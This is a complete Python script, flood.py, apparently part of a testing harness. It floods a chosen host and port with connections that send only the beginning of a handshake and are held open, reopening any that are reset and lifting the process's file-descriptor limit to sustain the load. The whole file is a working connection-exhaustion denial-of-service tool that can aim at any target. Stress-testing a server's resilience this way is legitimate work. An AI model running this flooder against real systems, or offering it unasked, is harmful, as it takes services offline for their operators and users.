"""Clients that begin handshakes and never finish them.

flood.py HOST PORT COUNT BEGINNING

Keeps COUNT connections open that have sent no more than BEGINNING, in hexadecimal. Whatever is
reset is opened again. Prints one line when twice as many have been tried,
and goes on.
"""

import resource
import selectors
import socket
import sys
import time

from peer import report


def begin(host, port, beginning):
    sock = socket.socket()
    sock.setblocking(False)
    sock.connect_ex((host, port))
    selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE, beginning)


def go_on(sock, beginning):
    """Sends once, then only listens. False when the connection is over."""
    try:
        if beginning is not None:
            sock.send(beginning)
            selector.modify(sock, selectors.EVENT_READ, None)
            return True
        return bool(sock.recv(4096))
    except BlockingIOError:
        return True
    except OSError:
        return False


host, port, count, beginning = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
selector = selectors.DefaultSelector()
for _ in range(count):
    begin(host, port, bytes.fromhex(beginning))
tried, told = count, False
while True:
    for key, _ in selector.select():
        if not go_on(key.fileobj, key.data):
            selector.unregister(key.fileobj)
            key.fileobj.close()
            begin(host, port, bytes.fromhex(beginning))
            tried += 1
    # The machine that is flooded may be this one: leave it some time.
    time.sleep(0.002)
    if not told and tried >= 2 * count:
        report(tried=tried)
        told = True
